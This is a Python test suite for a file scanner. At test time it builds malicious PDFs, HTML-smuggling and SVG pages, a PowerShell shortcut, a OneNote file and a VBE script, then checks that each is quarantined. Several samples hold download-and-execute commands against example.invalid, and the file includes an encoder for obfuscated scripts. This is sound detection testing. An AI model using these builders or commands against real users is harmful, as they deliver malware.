#!/usr/bin/env python3
# End-to-end: documents and scripts (issue 8, part B: PDF, HTML/SVG, LNK,
# OneNote, scripts). Each malicious sample is built here at test time, scanned
# with the shipped policy in the upload profile, and must carry its finding
# and be quarantined; a clean PDF must pass with no high-severity finding.
# Fixture builders: PDFs written by hand with correct cross-reference tables
# (classic and, for object streams, a cross-reference stream), shortcuts per
# [MS-SHLLINK], OneNote sections with a FileDataStoreObject per [MS-ONESTORE]
# 2.6.13, HTML/SVG pages and Script Encoder text. Pure Python, no tools.
import os
import struct
import sys
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import fixtures as F  # noqa: E402
from harness import SandgateCase, main  # noqa: E402

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
SHIPPED = os.path.join(ROOT, "policies", "default.yaml")
# ---------------------------------------------------------------------------
# PDF


def pdf(objs, root=1):
    """Objects 1..n (bodies without "obj"/"endobj") with a classic xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, body in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offs:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, root, x)
    return bytes(out)


def pdf_objstm(plain, packed):
    """plain: {num: body} as ordinary objects; packed: {num: body} stored in one
    FlateDecode object stream (ISO 32000-1 7.5.7) indexed by an xref stream."""
    stm_num = max(list(plain) + list(packed)) + 1
    xref_num = stm_num + 1
    hdr, data = [], b""
    for n in sorted(packed):
        hdr.append(b"%d %d" % (n, len(data)))
        data += packed[n] + b"\n"
    head = b" ".join(hdr) + b"\n"
    comp = zlib.compress(head + data)
    objs = dict(plain)
    objs[stm_num] = (b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
                     % (len(packed), len(head), len(comp)) + comp + b"\nendstream")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = {}
    for n in sorted(objs):
        offs[n] = len(out)
        out += b"%d 0 obj\n" % n + objs[n] + b"\nendobj\n"
    xoff = len(out)
    idx = {n: i for i, n in enumerate(sorted(packed))}
    rows = b""
    for n in range(xref_num + 1):
        if n in offs:
            rows += struct.pack(">BIH", 1, offs[n], 0)
        elif n in packed:
            rows += struct.pack(">BIH", 2, stm_num, idx[n])
        elif n == xref_num:
            rows += struct.pack(">BIH", 1, xoff, 0)
        else:
            rows += struct.pack(">BIH", 0, 0, 65535)
    zr = zlib.compress(rows)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
            b"/Length %d >>\nstream\n" % (xref_num, xref_num + 1, len(zr)) + zr +
            b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % xoff
    return bytes(out)


_PAGES = [b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
          b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]


def pdf_openaction_js():
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"] + _PAGES +
               [b"<< /Type /Action /S /JavaScript /JS (app.alert\\('CV'\\);) >>"])


def pdf_obfuscated_js():
    # /J#61vaScript and /J#53 are /JavaScript and /JS once #xx is decoded.
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"] + _PAGES +
               [b"<< /Type /Action /S /J#61vaScript /J#53 (app.launchURL\\('http://x'\\);) >>"])


def pdf_launch():
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"] + _PAGES +
               [b"<< /S /Launch /Win << /F (cmd.exe) /P (/c powershell -w hidden) >> >>"])


def pdf_embedded(payload, name=b"invoice.exe"):
    z = zlib.compress(payload)
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(" + name +
                b") 4 0 R] >> >> >>"] + _PAGES +
               [b"<< /Type /Filespec /F (" + name + b") /UF (" + name + b") /EF << /F 5 0 R >> >>",
                b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d /Params << /Size %d >> >>"
                b"\nstream\n" % (len(z), len(payload)) + z + b"\nendstream"])


def pdf_objstm_js():
    """JavaScript only inside a compressed object stream: no JavaScript name
    appears anywhere in the raw bytes."""
    return pdf_objstm({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                       2: _PAGES[0], 3: _PAGES[1]},
                      {4: b"<< /Type /Action /S /JavaScript /JS 5 0 R >>",
                       5: b"(this.exportDataObject\\({cName: 'a', nLaunch: 2}\\);)"})


# ---------------------------------------------------------------------------
# HTML / SVG


def html_smuggling(payload, name="invoice.zip"):
    import base64
    b64 = base64.b64encode(payload).decode()
    return ("""<!DOCTYPE html>
<html><head><title>Invoice</title></head><body>
<p>Your document is downloading...</p>
<script>
var d = '%s';
var bin = window.atob(d);
var buf = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) { buf[i] = bin.charCodeAt(i); }
var blob = new Blob([buf], {type: 'application/octet-stream'});
var a = document.createElement('a');
a.href = window.URL.createObjectURL(blob);
a.download = '%s';
document.body.appendChild(a);
a.click();
</script></body></html>
""" % (b64, name)).encode()


def svg_script():
    return b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100">
  <rect width="200" height="100" fill="#eee"/>
  <script type="text/javascript">window.location.href = "http://example.invalid/login";</script>
</svg>
"""


# ---------------------------------------------------------------------------
# LNK ([MS-SHLLINK])

LNK_CLSID = bytes.fromhex("0114020000000000c000000000000046")


def lnk(target, arguments="", working_dir="", icon=""):
    """A shortcut with a LinkInfo local base path (2.3) and Unicode StringData (2.4)."""
    flags = 0x02 | 0x80  # HasLinkInfo | IsUnicode
    if working_dir:
        flags |= 0x10
    if arguments:
        flags |= 0x20
    if icon:
        flags |= 0x40
    hdr = struct.pack("<I16sIIQQQIiIHHII", 0x4C, LNK_CLSID, flags, 0x20, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0)
    assert len(hdr) == 0x4C
    volume = struct.pack("<IIII", 17, 3, 0x1234ABCD, 0x10) + b"\0"
    base = target.encode("latin-1") + b"\0"
    li_header = 0x1C
    vol_off = li_header
    base_off = vol_off + len(volume)
    suffix_off = base_off + len(base)
    body = volume + base + b"\0"
    li = struct.pack("<IIIIIII", li_header + len(body), li_header, 1, vol_off, base_off, 0,
                     suffix_off) + body

    def sd(s):
        return struct.pack("<H", len(s)) + s.encode("utf-16-le")

    strings = b""
    if working_dir:
        strings += sd(working_dir)
    if arguments:
        strings += sd(arguments)
    if icon:
        strings += sd(icon)
    return hdr + li + strings + struct.pack("<I", 0)


def powershell_enc(command):
    import base64
    return base64.b64encode(command.encode("utf-16-le")).decode()


# ---------------------------------------------------------------------------
# OneNote ([MS-ONESTORE])

ONE_HEADER_GUID = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")  # {7B5C52E4-D88C-4DA7-AEB1-5378D02996D3}
FDSO_HEADER = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")  # {BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC}
FDSO_FOOTER = bytes.fromhex("22a7fb71790f0b4abb13899256426b24")  # {71FBA722-0F79-4A0B-BB13-899256426B24}


def file_data_store_object(data):
    pad = (-len(data)) % 8
    return FDSO_HEADER + struct.pack("<QIQ", len(data), 0, 0) + data + b"\0" * pad + FDSO_FOOTER


def onenote(*payloads):
    """A .one section: the 1024-byte header (guidFileType first) and one
    FileDataStoreObject per payload."""
    header = ONE_HEADER_GUID + bytes(1024 - len(ONE_HEADER_GUID))
    return header + b"".join(file_data_store_object(p) for p in payloads)


# ---------------------------------------------------------------------------
# Microsoft Script Encoder (VBE/JSE), the inverse of the decoder's table.

_PICK = "0120121221210212021200122102122100212120200120210212001220012021"
_TABLE = {
    9: "576e7b", 32: "2e2d32", 33: "477530", 34: "7a5221", 35: "566029", 36: "42715b",
    37: "6a5e38", 38: "2f4933", 39: "265c3d", 40: "496258", 41: "417d3a", 42: "342935",
    43: "323665", 44: "5b2039", 45: "767c5c", 46: "727a56", 47: "437f73", 48: "386b66",
    49: "39634e", 50: "703345", 51: "452b6b", 52: "686862", 53: "715159", 54: "4f6678",
    55: "09765e", 56: "62317d", 57: "44644a", 58: "23546d", 59: "754371", 61: "7e3a60",
    63: "5e7e53", 65: "774542", 66: "4a2c27", 67: "612a48", 68: "5d7472", 69: "222775",
    70: "4b3731", 71: "6f4437", 72: "4e794d", 73: "3b5952", 74: "4c2f22", 75: "506f54",
    76: "67266a", 77: "2a7247", 78: "7d6a64", 79: "74392d", 80: "547b20", 81: "2b3f7f",
    82: "2d382e", 83: "2c774c", 84: "30675d", 85: "6e537e", 86: "6b476c", 87: "66346f",
    88: "357879", 89: "255d74", 90: "213043", 91: "642326", 92: "4d5a76", 93: "525b25",
    94: "636c24", 95: "3f482b", 96: "7b5528", 97: "787023", 98: "296941", 99: "282e34",
    100: "734c09", 101: "59212a", 102: "332444", 103: "7f4e3f", 104: "6d5077", 105: "55093b",
    106: "535655", 107: "7c7369", 108: "3a3561", 109: "5f6163", 110: "654b50", 111: "465867",
    112: "583b51", 113: "315749", 114: "69224f", 115: "6c6d46", 116: "5a4d68", 117: "48257c",
    118: "272836", 119: "5c4670", 120: "3d4a6e", 121: "24327a", 122: "79412f", 123: "373d5f",
    124: "605f4b", 125: "514f5a", 126: "20422c", 127: "366557"}


def script_encode(plain):
    esc = {"\n": "@&", "\r": "@#", ">": "@*", "<": "@!", "@": "@$"}
    out = []
    for i, ch in enumerate(plain):
        if ch in esc:
            out.append(esc[ch])
            continue
        col = int(_PICK[i % 64])
        for enc, trip in _TABLE.items():
            if bytes.fromhex(trip)[col] == ord(ch):
                out.append(chr(enc))
                break
        else:
            out.append(ch)
    return "#@~^AAAAAA==" + "".join(out) + "AAAAAA==^#~@"


# ---------------------------------------------------------------------------
# Tests


class Documents(SandgateCase):
    def scan_upload(self, name, data, expect_rc):
        p = self.write(name, data)
        res, rep = self.scan1(p, args=("--policy", SHIPPED, "--profile", "upload"),
                              expect_rc=expect_rc, builtin=False)
        self.assertEqual(rep["policy"]["profile"], "upload")
        return rep

    def quarantined_with(self, name, data, obj_path, fid, severity="high"):
        rep = self.scan_upload(name, data, expect_rc=1)
        self.assertEqual(rep["verdict"], "quarantine")
        self.assertFinding(self.obj(rep, obj_path), fid, severity)
        return rep

    def findings(self, obj):
        return {f["id"]: f for f in obj["findings"]}

    # -- PDF -----------------------------------------------------------------

    def test_pdf_openaction_javascript(self):
        rep = self.quarantined_with("cv.pdf", pdf_openaction_js(), "cv.pdf", "pdf.javascript")
        root = self.obj(rep, "cv.pdf")
        self.assertFinding(root, "pdf.openaction", "high")
        self.assertIn("app.alert", self.findings(root)["pdf.javascript"].get("evidence", ""))
        self.assertReason(rep, "cv.pdf", "pdf.javascript")

    def test_pdf_obfuscated_javascript_name(self):
        data = pdf_obfuscated_js()
        self.assertNotIn(b"/JavaScript", data)
        rep = self.quarantined_with("cv.pdf", data, "cv.pdf", "pdf.javascript")
        self.assertFinding(self.obj(rep, "cv.pdf"), "pdf.openaction", "high")

    def test_pdf_launch(self):
        rep = self.quarantined_with("cv.pdf", pdf_launch(), "cv.pdf", "pdf.launch")
        self.assertIn("cmd.exe", self.findings(self.obj(rep, "cv.pdf"))["pdf.launch"]["evidence"])

    def test_pdf_embedded_executable(self):
        pe = F.minimal_pe(b"embedded in a pdf")
        rep = self.scan_upload("cv.pdf", pdf_embedded(pe), expect_rc=1)
        self.assertEqual(rep["verdict"], "quarantine")
        root = self.obj(rep, "cv.pdf")
        self.assertFinding(root, "pdf.embedded_file", "medium")
        child = self.obj(rep, "cv.pdf/invoice.exe")
        self.assertEqual(child["type"]["label"], "pe")
        self.assertBytes(child, pe)
        self.assertFinding(child, "type.executable", "high")

    def test_pdf_javascript_in_object_stream(self):
        data = pdf_objstm_js()
        self.assertNotIn(b"JavaScript", data)  # only visible after decompression
        rep = self.quarantined_with("cv.pdf", data, "cv.pdf", "pdf.javascript")
        root = self.obj(rep, "cv.pdf")
        self.assertIn("exportDataObject", self.findings(root)["pdf.javascript"]["evidence"])
        self.assertNotIn("pdf.malformed", self.findings(root))

    def test_damaged_pdf_falls_back_to_keyword_scan(self):
        data = b"%PDF-1.4\n1 0 obj << /S /JavaScript /JS (x) >>\n"  # no xref, no trailer
        rep = self.scan_upload("cv.pdf", data, expect_rc=1)
        root = self.obj(rep, "cv.pdf")
        self.assertFinding(root, "pdf.javascript", "high")

    def test_clean_pdf_passes(self):
        rep = self.scan_upload("cv.pdf", F.minimal_pdf("Curriculum vitae of A. Candidate"),
                               expect_rc=0)
        self.assertEqual(rep["verdict"], "pass")
        for o in rep["objects"]:
            for f in o["findings"]:
                self.assertNotIn(f["severity"], ("high", "critical"), f)
        root = self.obj(rep, "cv.pdf")
        self.assertEqual(root.get("facts", {}).get("pdf.parsed"), "true")

    def test_password_protected_pdf_is_held(self):
        # Its attachment and scripts cannot be read without the password: held
        # by the shipped mail profile as an encrypted archive is.
        with open(os.path.join(ROOT, "tests", "e2e", "data", "pdf", "locked.pdf"), "rb") as f:
            data = f.read()
        p = self.write("offer.pdf", data)
        res, rep = self.scan1(p, args=("--policy", SHIPPED, "--profile", "mail"), expect_rc=1,
                              builtin=False)
        self.assertFinding(self.obj(rep, "offer.pdf"), "pdf.password", "medium")
        self.assertEqual(rep["verdict"], "quarantine")
        self.assertIn("encrypted-archives", [r["rule"] for r in rep["reasons"]])
        # A portal upload too: a PDF is an accepted CV format, but not one that
        # cannot be read.
        rep = self.scan_upload("cv.pdf", data, expect_rc=1)
        self.assertEqual(rep["verdict"], "quarantine")
        self.assertIn("active-content", [r["rule"] for r in rep["reasons"]])

    def test_many_pdfs_in_one_scan_print_each_report_once(self):
        # qpdf flushes std::cout from the scan threads when a document's logger
        # goes away; with an unsynchronised cout that raced the report printer
        # and printed reports twice (and blank lines) in about one run in three.
        data = F.minimal_pdf("Curriculum vitae")
        paths = [self.write("many/cv%03d.pdf" % i, data) for i in range(400)]
        res, reps = self.scan(*paths, args=("--jobs", "8"), expect_rc=0)
        self.assertEqual(len(res.stdout.splitlines()), len(paths), res.describe())
        self.assertEqual(len({r["id"] for r in reps}), len(paths))

    # -- HTML / SVG ----------------------------------------------------------

    def test_html_smuggling(self):
        z = F.make_zip_py(self.path("payload.zip"), {"invoice.exe": F.minimal_pe(b"smuggled")},
                          deflate=False)  # stored: the payload stays over 1 KiB of base64
        rep = self.quarantined_with("invoice.html", html_smuggling(F.file_bytes(z)),
                                    "invoice.html", "html.smuggling")
        self.assertFinding(self.obj(rep, "invoice.html"), "html.script")
        # The base64 payload is decoded into a child, and unpacked in turn.
        child = self.obj(rep, "invoice.html/base64-payload-1")
        self.assertEqual(child["type"]["label"], "zip")
        self.assertBytes(child, F.file_bytes(z))
        self.obj(rep, "invoice.html/base64-payload-1/invoice.exe")

    def test_svg_with_script(self):
        rep = self.quarantined_with("logo.svg", svg_script(), "logo.svg", "svg.script")
        self.assertEqual(self.obj(rep, "logo.svg")["type"]["label"], "svg")

    # -- LNK -----------------------------------------------------------------

    def test_lnk_powershell_encoded(self):
        cmd = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')"
        data = lnk(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                   "-NoProfile -w hidden -enc " + powershell_enc(cmd),
                   working_dir=r"C:\Windows\System32", icon=r"C:\Windows\System32\shell32.dll")
        rep = self.quarantined_with("CV.pdf.lnk", data, "CV.pdf.lnk", "lnk.lolbin")
        root = self.obj(rep, "CV.pdf.lnk")
        self.assertEqual(root["type"]["label"], "lnk")
        self.assertFinding(root, "lnk.encoded_command", "high")
        self.assertIn("DownloadString", self.findings(root)["lnk.encoded_command"]["evidence"])
        facts = root.get("facts", {})
        self.assertTrue(facts.get("lnk.target", "").lower().endswith("powershell.exe"), facts)
        self.assertIn("-enc", facts.get("lnk.arguments", ""))
        self.assertEqual(facts.get("lnk.working_dir"), r"C:\Windows\System32")
        self.assertEqual(facts.get("lnk.icon_location"), r"C:\Windows\System32\shell32.dll")

    # -- OneNote -------------------------------------------------------------

    def test_onenote_embedded_file(self):
        script = b'@echo off\r\npowershell -w hidden -c "iwr http://example.invalid/x.exe -o x.exe; start x.exe"\r\n'
        rep = self.quarantined_with("notes.one", onenote(script), "notes.one",
                                    "onenote.embedded_file")
        child = self.obj(rep, "notes.one/embedded-1")
        self.assertBytes(child, script)

    # -- Scripts -------------------------------------------------------------

    def test_vbe_is_decoded(self):
        plain = ('Option Explicit\r\nDim s, x\r\nOn Error Resume Next\r\n'
                 'Set s = CreateObject("WScript.Shell")\r\n'
                 'Set x = CreateObject("MSXML2.XMLHTTP")\r\n'
                 'x.Open "GET", "http://example.invalid/p.exe", False\r\n'
                 's.Run "cmd /c p.exe"\r\n')
        rep = self.quarantined_with("invoice.vbe", script_encode(plain).encode(), "invoice.vbe",
                                    "script.encoded")
        child = self.obj(rep, "invoice.vbe/decoded-script")
        self.assertBytes(child, plain.encode())
        self.assertFinding(child, "script.download_exec", "high")


if __name__ == "__main__":
    main()
